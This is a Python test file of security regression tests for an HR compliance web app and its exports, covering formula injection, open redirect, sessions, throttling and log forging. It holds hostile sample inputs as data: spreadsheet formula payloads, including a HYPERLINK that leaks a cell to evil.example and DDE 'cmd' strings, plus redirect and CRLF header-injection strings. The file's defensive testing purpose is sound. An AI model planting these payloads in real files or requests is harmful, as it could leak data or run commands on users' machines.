"""Issue 20, the HR page, its exports and the logs, probed as an attacker would (findings 3, 4, 7 and the low ones).

Each test failed on main before the fix. The web page runs through Flask's test client on a real store
(SQLite; the concurrent-guess test on PostgreSQL too), the CLI reports as a real subprocess. The store is
the one of tests/test_web.py: A (U1), B (U1 until June, then U2), C and D (U2), X not on the roster.
What was tried, and how many inputs, is summed up in docs/security.md.
"""

from __future__ import annotations

import csv
import io
import logging
import socket
import threading
import time
import urllib.error
import urllib.request
from datetime import date, timedelta
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update
from sqlalchemy.orm import Session

from lms_bridge import store
from lms_bridge.config.settings import Settings, WebSettings
from lms_bridge.demo.ralph import free_port
from lms_bridge.errors import ConfigError
from lms_bridge.ledger import export, reports
from lms_bridge.redaction import register_secret
from lms_bridge.runtime.logs import setup_logging
from lms_bridge.store import models
from lms_bridge.store.models import WebUser, utcnow
from lms_bridge.store.people import RosterPerson, store_roster
from lms_bridge.web import users as users_core
from lms_bridge.web.app import create_app
from tests.fixtures.deployment import write_deployment
from tests.test_web import PASSWORD, A, B, _csrf, _record, _statuses, login, seed_store

pytestmark = pytest.mark.proof

#: Roster names that a spreadsheet would run as formulas (the issue's HYPERLINK first), one per person.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A3,"Klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
HOSTILE_NIPS = tuple(f"19900101201501{index:04d}" for index in range(len(HOSTILE)))
#: A person with a negative JP (a correction): a number stays a number.
NEGATIVE_NIP = "199001012015019999"


def _engine(url: str):
    engine = store.open_engine(url)
    seed_store(engine)
    users_core.add_user(engine, "hr-all", PASSWORD)
    users_core.add_user(engine, "hr-u1", PASSWORD, ("U1",))
    return engine


@pytest.fixture
def engine(tmp_path):
    engine = _engine(f"sqlite:///{tmp_path / 'state.db'}")
    yield engine
    engine.dispose()


def _app(engine, **web):
    app = create_app(Settings(web=WebSettings(**web)), engine, key=b"k" * 32, **({"remote": True} if web else {}))
    app.config["TESTING"] = True
    return app


@pytest.fixture
def app(engine):
    return _app(engine)


def _hostile_roster(engine) -> None:
    people = [
        RosterPerson(nip, "PNS", name, "U9", "=Unit+Jahat", "WI")
        for nip, name in zip(HOSTILE_NIPS, HOSTILE, strict=True)
    ]
    people.append(RosterPerson(NEGATIVE_NIP, "PNS", "Koreksi", "U9", "=Unit+Jahat", "WI"))
    store_roster(engine, people, effective=date(2026, 1, 1))
    with Session(engine) as session, session.begin():
        session.add(_record("neg", NEGATIVE_NIP, "-3", "2026-02-02"))


# --- 3. formula injection ------------------------------------------------------------------------------------


def _check_workbook(book) -> int:
    """Every hostile name is a string cell holding the name itself; the negative JP is a number."""
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value in HOSTILE or cell.value == "=Unit+Jahat":
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    seen += 1
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if cell.value == NEGATIVE_NIP or cell.value == export.grouped_nip(NEGATIVE_NIP):
                    jp = next(c for c in row if isinstance(c.value, int | float) and c.value < 0)
                    assert jp.value == -3 and jp.data_type == "n"
    return seen


def _check_csv(text: str, delimiter: str) -> None:
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter))
    cells = {cell for row in rows for cell in row}
    for name in HOSTILE:
        assert "'" + name in cells and name not in cells, name
    negative = next(row for row in rows if NEGATIVE_NIP in row or export.grouped_nip(NEGATIVE_NIP) in row)
    assert "-3" in negative and "'-3" not in negative


def test_web_downloads_write_formula_like_text_as_text(app, engine):
    _hostile_roster(engine)
    client = app.test_client()
    login(client, "hr-all")
    book = load_workbook(io.BytesIO(client.get("/compliance.xlsx?year=2026&as_of=2026-12-31").get_data()))
    assert _check_workbook(book) >= len(HOSTILE) * 2  # the "Semua" sheet and the unit's own sheet
    _check_csv(client.get("/compliance.csv?year=2026&as_of=2026-12-31").get_data(as_text=True), ";")
    english = client.get("/compliance.csv?year=2026&as_of=2026-12-31", headers={"Accept-Language": "en"})
    _check_csv(english.get_data(as_text=True), ",")


def test_cli_reports_write_formula_like_text_as_text(engine, tmp_path):
    _hostile_roster(engine)
    url = str(engine.url)
    deployment = write_deployment(tmp_path, state_url=url, lrs_url="http://127.0.0.1:9/xapi", password="unused")
    target = tmp_path / "rekap.xlsx"
    deployment.run("report", "compliance", "--year", "2026", "--format", "xlsx", "-o", str(target), check=True)
    assert _check_workbook(load_workbook(target)) >= len(HOSTILE)
    # The Excel dialect of Indonesian Windows, and the plain one for programs (the other shares their code).
    for dialect, delimiter in (("excel-id", ";"), ("plain", ",")):
        out = tmp_path / f"rekap-{dialect}.csv"
        args = ("report", "compliance", "--year", "2026", "--format", "csv", "--csv-dialect", dialect, "-o", str(out))
        deployment.run(*args, check=True)
        with out.open(encoding="utf-8", newline="") as handle:
            _check_csv(handle.read(), delimiter)
    # The SIASN export's writer (course titles come from the LMS) escapes text too, and only text.
    text = export.to_csv(["namaKursus", "jumlahJam"], [[name, -2] for name in HOSTILE] + [["-", Decimal("-1.5")]])
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert [row[0] for row in rows[1:]] == ["'" + name for name in HOSTILE] + ["-"]
    assert {row[1] for row in rows[1:]} == {"-2", "-1.5"}
    # A SIASN riwayat holding a title as that CSV wrote it still matches the title (report siasn --reconcile).
    riwayat = tmp_path / "riwayat.csv"
    riwayat.write_text("pnsOrangId,namaKursus,tanggalKursus\nP1,'=Kursus+A,02-02-2026\n", encoding="utf-8")
    assert reports.read_siasn_riwayat(riwayat) == {("P1", "=kursus+a", "02-02-2026")}


# --- 4. open redirect after login ------------------------------------------------------------------------------

OFF_SITE = (
    "/\t/evil.example/",  # /login?next=/%09/evil.example/ as the form gets it
    "/%09/evil.example/",
    "/\n/evil.example/",
    "/\r\nSet-Cookie: forged=1",
    "/%0d%0aSet-Cookie: forged=1",
    "/%2F/evil.example/",
    "/%5Cevil.example/",
    "/\\evil.example/",
    "//evil.example/",
    "///evil.example/",
    "https://evil.example/",
    "javascript:alert(1)",
    "/\u2028/evil.example/",
    "/\x00/evil.example/",
    " //evil.example/",
    "/" + "a" * 3000,
)


def test_login_and_language_switch_follow_only_same_site_paths(app):
    client = app.test_client()
    # Both follow ``next`` through one check: every target through the language switch (cheap), the
    # issue's own and the header-breaking ones through a login too (each login checks a password).
    for target in OFF_SITE:
        switch = client.get("/language/en", query_string={"next": target})
        assert switch.status_code == 302 and switch.headers["Location"] == "/compliance", repr(target)
    for target in OFF_SITE[:4]:
        response = login(client, "hr-all", next_url=target)
        assert response.status_code == 302 and response.headers["Location"] == "/compliance", repr(target)
    # The query string form of the attack, as the issue sent it.
    page = client.get("/login?next=/%09/evil.example/").get_data(as_text=True)
    assert '<input type="hidden" name="next" value="">' in page
    # A real path on the site is still followed.
    ok = login(client, "hr-all", next_url=f"/person/{A}?year=2026&as_of=2026-12-31")
    assert ok.headers["Location"] == f"/person/{A}?year=2026&as_of=2026-12-31"


# --- 7. sessions ------------------------------------------------------------------------------------------------


def _cookie(client) -> str:
    return client.get_cookie("lms_bridge_session").value


def test_a_cookie_copied_before_logout_no_longer_works(app):
    client = app.test_client()
    login(client, "hr-all")
    copied = _cookie(client)
    thief = app.test_client()
    thief.set_cookie("lms_bridge_session", copied)
    assert thief.get("/compliance?year=2026").status_code == 200
    client.post("/logout", data={"csrf_token": _csrf(client, "/compliance?year=2026")})
    response = thief.get("/compliance?year=2026")
    assert response.status_code == 302 and response.headers["Location"].startswith("/login")


def test_disabling_a_user_revokes_their_sessions_in_the_store(app, engine):
    phone, laptop = app.test_client(), app.test_client()
    login(phone, "hr-u1")
    login(laptop, "hr-u1")
    with Session(engine) as session:
        user_id = session.scalar(select(WebUser.id).where(WebUser.username == "hr-u1"))
        assert len(session.scalars(select(models.WebSession).where(models.WebSession.user_id == user_id)).all()) == 2
    users_core.disable_user(engine, "hr-u1")
    with Session(engine) as session:
        assert session.scalars(select(models.WebSession).where(models.WebSession.user_id == user_id)).all() == []
    assert phone.get("/compliance?year=2026").status_code == 302
    assert laptop.get("/compliance?year=2026").status_code == 302


def test_a_session_in_use_still_ends_after_its_absolute_lifetime(app, engine):
    client = app.test_client()
    login(client, "hr-all")
    assert client.get("/compliance?year=2026").status_code == 200
    # Logged in 11 h 59 min ago and clicking all along: still in.
    with Session(engine) as session, session.begin():
        session.execute(update(models.WebSession).values(created_at=utcnow() - timedelta(hours=11, minutes=59)))
    assert client.get("/compliance?year=2026").status_code == 200
    # Two minutes later the 12 hours are over, however busy the session was.
    with Session(engine) as session, session.begin():
        session.execute(update(models.WebSession).values(created_at=utcnow() - timedelta(hours=12, minutes=1)))
    assert client.get("/compliance?year=2026").status_code == 302
    # Idle for longer than session_hours (8) ends it too.
    login(client, "hr-all")
    with Session(engine) as session, session.begin():
        session.execute(update(models.WebSession).values(seen_at=utcnow() - timedelta(hours=8, minutes=1)))
    assert client.get("/compliance?year=2026").status_code == 302


PROXY, CLIENT, STRANGER = "10.0.0.5", "203.0.113.7", "198.51.100.9"


def test_remote_serving_needs_https_through_the_configured_proxy(engine, tmp_path):
    with pytest.raises(ConfigError, match=r"trusted_proxies"):
        create_app(Settings(), engine, key=b"k" * 32, remote=True)
    deployment = write_deployment(tmp_path, state_url=str(engine.url), lrs_url="http://127.0.0.1:9/xapi", password="-")
    refused = deployment.run("serve-web", "--host", "0.0.0.0", "--port", "8399", "--allow-remote", timeout=60)  # noqa: S104
    assert refused.returncode == 2 and "[web] trusted_proxies" in refused.stderr, refused.stderr  # a config error
    assert refused.stderr.count("\n") == 1  # one sentence
    app = _app(engine, trusted_proxies=(PROXY,))
    via_proxy = app.test_client()
    via_proxy.environ_base.update(
        {"REMOTE_ADDR": PROXY, "HTTP_X_FORWARDED_PROTO": "https", "HTTP_X_FORWARDED_FOR": CLIENT}
    )
    response = login(via_proxy, "hr-all")
    assert response.status_code == 302
    cookie = response.headers["Set-Cookie"]
    assert "Secure" in cookie and "HttpOnly" in cookie
    assert response.headers["Strict-Transport-Security"].startswith("max-age=")
    assert via_proxy.get("/compliance?year=2026").status_code == 200
    # Plain HTTP through the proxy, and anyone else claiming HTTPS, are refused in one sentence.
    plain = app.test_client()
    plain.environ_base.update({"REMOTE_ADDR": PROXY})
    refused = plain.get("/login")
    assert refused.status_code == 400 and "HTTPS" in refused.get_data(as_text=True)
    stranger = app.test_client()
    stranger.environ_base.update({"REMOTE_ADDR": STRANGER, "HTTP_X_FORWARDED_PROTO": "https"})
    assert stranger.get("/login").status_code == 400


def _get(url: str, headers: dict[str, str]) -> int:
    try:
        with urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=10) as response:  # noqa: S310
            return int(response.status)
    except urllib.error.HTTPError as error:
        return error.code


def test_the_real_server_answers_https_through_the_trusted_proxy(engine, tmp_path):
    # The test client above bypasses waitress, which by default deletes X-Forwarded-* from a proxy it was not
    # told about: every request through nginx was refused (found by scripts/fresh_debian_check.sh).
    deployment = write_deployment(
        tmp_path,
        state_url=str(engine.url),
        lrs_url="http://127.0.0.1:9/xapi",
        password="-",
        extra_toml='[web]\ntrusted_proxies = ["127.0.0.1"]\n',
        env={"LMS_BRIDGE_WEB_SECRET_KEY": "s" * 32},
    )
    port = free_port()
    server = deployment.popen("serve-web", "--port", str(port), "--allow-remote")
    url = f"http://127.0.0.1:{port}/login"
    try:
        deadline = time.monotonic() + 60
        while True:
            try:
                socket.create_connection(("127.0.0.1", port), timeout=1).close()
                break
            except OSError:
                assert server.poll() is None and time.monotonic() < deadline, server.communicate()[1]
                time.sleep(0.2)
        assert _get(url, {"X-Forwarded-Proto": "https", "X-Forwarded-For": CLIENT}) == 200
        assert _get(url, {}) == 400  # plain HTTP through the proxy
    finally:
        server.terminate()
        server.communicate(timeout=30)


# --- low: unit scoping by the record's day ---------------------------------------------------------------------


def test_an_earlier_as_of_date_does_not_show_what_a_person_earned_in_another_unit(app):
    # B was in U1 until June and in U2 from July: b1 (10 JP, February) and b2 (9.5 JP, August).
    u1 = app.test_client()
    login(u1, "hr-u1")
    june = u1.get(f"/person/{B}?year=2026&as_of=2026-06-30").get_data(as_text=True)
    assert _statuses(june) == ["counted"] and "2026-08-03" not in june and "9,5" not in june
    everyone = app.test_client()
    login(everyone, "hr-all")
    assert _statuses(everyone.get(f"/person/{B}?year=2026&as_of=2026-06-30").get_data(as_text=True)) == [
        "counted",
        "later",
    ]


# --- low: login throttling ----------------------------------------------------------------------------------


def _client_from(app, address: str):
    client = app.test_client()
    client.environ_base["REMOTE_ADDR"] = address
    return client


def test_guessing_one_name_does_not_lock_the_real_user_out(app):
    attacker = _client_from(app, "198.51.100.1")
    for _ in range(10):
        assert login(attacker, "hr-all", "wrong password!").status_code == 401
    assert login(attacker, "hr-all").status_code == 429
    # The real user, at their own desk, logs in.
    assert login(_client_from(app, "192.0.2.10"), "hr-all").status_code == 302


def test_spraying_many_names_from_one_address_is_limited(app, monkeypatch):
    from lms_bridge.web import throttle

    # A low limit keeps the test short (each guess costs a password check); the code is the same at 50.
    monkeypatch.setattr(throttle, "ADDRESS_LIMIT", 5)
    sprayer = _client_from(app, "198.51.100.2")
    answers = [login(sprayer, f"name-{index}", "wrong password!").status_code for index in range(7)]
    assert answers == [401] * 5 + [429] * 2
    # Another address of an IPv6 /64 is the same client; another /64 is not.
    six = _client_from(app, "2001:db8:1:2::1")
    for index in range(5):
        login(six, f"v6-{index}", "wrong password!")
    assert login(_client_from(app, "2001:db8:1:2::99"), "hr-all").status_code == 429
    assert login(_client_from(app, "2001:db8:1:3::1"), "hr-all").status_code == 302


@pytest.mark.parametrize("backend", ["sqlite", "postgresql"])
def test_concurrent_guesses_never_pass_the_limit(backend, request, tmp_path):
    url = f"sqlite:///{tmp_path / 'state.db'}" if backend == "sqlite" else request.getfixturevalue("pg_database_url")
    engine = _engine(url)
    try:
        app = _app(engine)
        clients = [_client_from(app, "198.51.100.3") for _ in range(14)]
        tokens = [_csrf(client) for client in clients]
        start, answers = threading.Barrier(len(clients)), []

        def guess(client, token) -> None:
            start.wait()
            data = {"csrf_token": token, "username": "hr-all", "password": "wrong password!"}
            answers.append(client.post("/login", data=data).status_code)

        threads = [threading.Thread(target=guess, args=pair) for pair in zip(clients, tokens, strict=True)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(60)
        assert sorted(answers) == [401] * 10 + [429] * 4
    finally:
        engine.dispose()


# --- low: log lines ----------------------------------------------------------------------------------------------


@pytest.fixture
def text_logs():
    """The CLI's text logging (its handler, its formatter), written to a buffer; taken away after."""
    setup_logging("INFO", "text")
    root = logging.getLogger()
    handler = next(h for h in root.handlers if getattr(h, "_lms_bridge", False))
    buffer = io.StringIO()
    handler.setStream(buffer)  # type: ignore[attr-defined]

    def read() -> str:
        text = buffer.getvalue()
        buffer.seek(0)
        buffer.truncate()
        return text

    yield read
    root.removeHandler(handler)


FORGED = "2026-12-07 10:00:00,000 INFO lms_bridge.web: web login: hr-all"


def test_a_newline_in_a_login_name_or_file_name_cannot_forge_a_log_line(app, text_logs):
    text_logs()
    login(app.test_client(), "x\n" + FORGED[:50], "wrong password!")
    logging.getLogger("lms_bridge.ingest.inbox").warning("%s: not imported", "chat.txt\r\n" + FORGED)
    logging.getLogger("lms_bridge.ingest.inbox").warning("%s: not imported", "chat\u2028" + FORGED)
    lines = text_logs().splitlines()
    assert len(lines) == 3, lines
    assert not any(line.startswith("2026-12-07 10:00") for line in lines)
    assert "\\n2026-12-07 10:00" in lines[0] and "\\r\\n" in lines[1] and "\\u2028" in lines[2]


def test_tracebacks_in_text_logs_are_redacted(text_logs):
    secret = "proof-web-secret-7c1e94"  # noqa: S105
    register_secret(secret)
    try:
        raise RuntimeError(f"could not connect with token {secret}")
    except RuntimeError:
        logging.getLogger("lms_bridge.runtime").exception("sync failed")
    err = text_logs()
    assert "Traceback" in err and "***" in err and secret not in err


def test_the_unit_history_helper_answers_by_day(engine):
    history = reports.unit_history(engine, B)
    assert reports.unit_on(history, date(2026, 6, 30)) == "U1" and reports.unit_on(history, date(2026, 7, 1)) == "U2"
    assert reports.unit_on(history, date(2025, 12, 31)) is None
    records = {record.statement_id: record.day for record in reports.person_records(engine, B, 2026)}
    assert records == {"b1": date(2026, 2, 1), "b2": date(2026, 8, 3)}
